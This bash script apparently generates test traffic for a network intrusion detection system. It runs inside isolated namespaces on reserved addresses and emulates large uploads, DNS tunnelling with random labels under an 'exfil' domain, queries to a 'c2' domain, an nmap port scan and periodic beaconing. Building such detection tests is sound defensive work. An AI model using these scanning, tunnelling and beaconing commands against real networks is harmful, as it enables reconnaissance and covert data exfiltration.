#!/bin/bash
# detection_traffic.sh OUTDIR — real traffic for the detection end-to-end test
# (test/integration/detection_e2e_test.py), captured to OUTDIR/capture.pcap.
#
# Two network namespaces joined by a veth pair: "inside" holds the one
# internal host 10.66.0.2, "outside" the external servers (198.51.100.0/24,
# TEST-NET-2: never a real destination). Everything is a real program:
# nginx (HTTP on :8080 of every outside address), dnsmasq (answers every name),
# curl, dig, nmap. tcpdump on the inside end of the veth writes the capture.
#
# What is sent, in order, and what the test config should make of it:
#   ordinary   3 small GETs, 5 ordinary dig queries, a 30 MiB download  -> no alert
#   upload     a 30 MiB POST to 198.51.100.10                         -> large_upload
#   marker     GET /e2e-marker                                        -> rule sid 1000001
#   intel      GET from 198.51.100.66 and a query for c2.bad.example  -> intel (both listed)
#   tunnel     200 queries of random 50-char base32 labels under t.exfil.example -> dns_tunnel
#   scan       nmap -sT of ports 1-200 of 198.51.100.30               -> vertical_scan
#   beacon     10 GETs to 198.51.100.20 every 1.25 s                  -> beacon
# The beacon period is 1.25 s rather than 1 s: the detector wants every
# interval >= min_interval_s (1 s), and connection starts jitter by a few ms.
#
# OUTDIR/traffic.tsv: one line per curl: phase, destination ip, destination
# port, local (source) port, HTTP status, bytes uploaded, bytes downloaded.
# OUTDIR/tcpdump.log: tcpdump's own packet and drop counts.
# Needs root (namespaces). Removes its namespaces and stops its servers on exit.
set -euo pipefail

OUT=${1:?usage: detection_traffic.sh OUTDIR}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
WORK="$OUT/traffic-work"
mkdir -p "$WORK/www"

IN_NS="dtin$$"
OUT_NS="dtout$$"
INSIDE=10.66.0.2
WEB=198.51.100.10
BEACON=198.51.100.20
SCAN=198.51.100.30
DNS=198.51.100.53
INTEL_IP=198.51.100.66
ANSWER=198.51.100.99
SIZE=$((30 * 1024 * 1024))

PIDS=()
cleanup() {
  # Only what this script started, by pid.
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
  for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
  ip netns del "$IN_NS" 2>/dev/null || true
  ip netns del "$OUT_NS" 2>/dev/null || true
}
trap cleanup EXIT

in_ns() { ip netns exec "$IN_NS" "$@"; }
out_ns() { ip netns exec "$OUT_NS" "$@"; }

# --- namespaces: inside 10.66.0.2/24 <-> outside 198.51.100.x/24, on-link routes.
ip netns add "$IN_NS"
ip netns add "$OUT_NS"
ip link add v-in netns "$IN_NS" type veth peer name v-out netns "$OUT_NS"
for ns in "$IN_NS" "$OUT_NS"; do
  dev=v-in; [ "$ns" = "$OUT_NS" ] && dev=v-out
  ip netns exec "$ns" sysctl -qw "net.ipv6.conf.$dev.disable_ipv6=1"
  # Wire-sized frames with real checksums, as a SPAN port would show them,
  # rather than 64 KiB offload super-frames.
  ip netns exec "$ns" ethtool -K "$dev" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  ip netns exec "$ns" ip link set lo up
  ip netns exec "$ns" ip link set "$dev" up
done
in_ns ip addr add "$INSIDE/24" dev v-in
in_ns ip route add 198.51.100.0/24 dev v-in
for a in $WEB $BEACON $SCAN $DNS $INTEL_IP; do out_ns ip addr add "$a/24" dev v-out; done
out_ns ip route add 10.66.0.0/24 dev v-out

# --- servers
head -c "$SIZE" /dev/urandom > "$WORK/www/big.bin"
head -c "$SIZE" /dev/urandom > "$WORK/upload.bin"
echo "hello from the outside" > "$WORK/www/index.html"
echo "pong" > "$WORK/www/ping.txt"
mkdir -p "$WORK/nginx-tmp"
cat > "$WORK/nginx.conf" <<EOF
worker_processes 1;
daemon off;
user root;
pid $WORK/nginx.pid;
error_log $WORK/nginx-error.log;
events { worker_connections 256; }
http {
  access_log off;
  client_body_temp_path $WORK/nginx-tmp/body;
  proxy_temp_path $WORK/nginx-tmp/proxy;
  fastcgi_temp_path $WORK/nginx-tmp/fastcgi;
  uwsgi_temp_path $WORK/nginx-tmp/uwsgi;
  scgi_temp_path $WORK/nginx-tmp/scgi;
  client_max_body_size 100m;
  default_type application/octet-stream;
  server {
    listen 8080;
    root $WORK/www;
    # nginx reads and discards the body of a "return": a sink for uploads.
    location = /up { return 200 "stored\n"; }
    location = /e2e-marker { return 200 "marker\n"; }
  }
}
EOF
ip netns exec "$OUT_NS" nginx -c "$WORK/nginx.conf" -p "$WORK" &
PIDS+=($!)
ip netns exec "$OUT_NS" dnsmasq -k -C /dev/null --user=root --listen-address="$DNS" --bind-interfaces --no-resolv --no-hosts \
  --address="/#/$ANSWER" --pid-file="$WORK/dnsmasq.pid" --log-facility="$WORK/dnsmasq.log" &
PIDS+=($!)

ready=0
for _ in $(seq 1 100); do
  if [ "$(in_ns curl -s -o /dev/null -w '%{http_code}' --max-time 1 "http://$WEB:8080/index.html" 2>/dev/null)" = 200 ] &&
     [ -n "$(in_ns dig +short +tries=1 +time=1 "@$DNS" ready.example.com A 2>/dev/null)" ]; then
    ready=1; break
  fi
  sleep 0.1
done
[ "$ready" = 1 ] || { echo "detection_traffic: servers did not come up" >&2; cat "$WORK/nginx-error.log" >&2 || true; exit 1; }

# --- capture: everything after the readiness probes.
ip netns exec "$IN_NS" tcpdump -i v-in -s 0 -B 131072 --immediate-mode -U -Z root -w "$OUT/capture.pcap" > "$OUT/tcpdump.log" 2>&1 &
TCPDUMP=$!
PIDS+=($TCPDUMP)
for _ in $(seq 1 50); do grep -q "listening on" "$OUT/tcpdump.log" 2>/dev/null && break; sleep 0.1; done
sleep 0.3

: > "$OUT/traffic.tsv"
fetch() {  # fetch PHASE DST URL [curl args...]
  local phase=$1 dst=$2 url=$3; shift 3
  local w
  w=$(in_ns curl -s -o /dev/null --max-time 30 -w '%{local_port}\t%{http_code}\t%{size_upload}\t%{size_download}' "$@" "$url" || true)
  printf '%s\t%s\t8080\t%s\n' "$phase" "$dst" "$w" >> "$OUT/traffic.tsv"
}
# A lost query is reported, not fatal: the test counts what was captured.
query() { in_ns dig +short +tries=1 +time=2 "@$DNS" "$@" > /dev/null || echo "detection_traffic: no answer to $*" >&2; }

# ordinary traffic
for p in index.html ping.txt index.html; do fetch ordinary "$WEB" "http://$WEB:8080/$p"; done
for n in www.example.com mail.example.net cdn.example.org www.debian.org www.wikipedia.org; do query "$n" A; done
fetch download "$WEB" "http://$WEB:8080/big.bin" --limit-rate 40M
# large upload (no Expect: 100-continue: the body goes out at once)
fetch upload "$WEB" "http://$WEB:8080/up" -X POST -H 'Expect:' --data-binary "@$WORK/upload.bin" --limit-rate 40M
# signature rule
fetch marker "$WEB" "http://$WEB:8080/e2e-marker"
# threat intel: a listed address, a subdomain of a listed domain
fetch intel "$INTEL_IP" "http://$INTEL_IP:8080/index.html"
query c2.bad.example A
# DNS tunnel
for _ in $(seq 1 200); do
  label=$(head -c 32 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z' | cut -c1-50)
  query "$label.t.exfil.example" A
done
# vertical scan: every port closed, each probe a SYN answered by RST
in_ns nmap -sT -Pn -n -p 1-200 --max-retries 1 "$SCAN" -oN /dev/null > /dev/null
# beacon on an absolute schedule, so the period does not drift with curl's run time
t0=$(date +%s%N)
for i in $(seq 0 9); do
  now=$(date +%s%N)
  wait_ns=$((t0 + i * 1250000000 - now))
  if [ "$wait_ns" -gt 0 ]; then sleep "$(printf '%d.%09d' $((wait_ns / 1000000000)) $((wait_ns % 1000000000)))"; fi
  fetch beacon "$BEACON" "http://$BEACON:8080/ping.txt"
done

# tcpdump drops what is still in its ring when interrupted: let it drain.
sleep 1.5
kill -INT "$TCPDUMP"
wait "$TCPDUMP" || true
cat "$OUT/tcpdump.log" >&2
rm -f "$WORK/www/big.bin" "$WORK/upload.bin"
echo "detection_traffic: $(wc -l < "$OUT/traffic.tsv") HTTP requests, capture $OUT/capture.pcap"
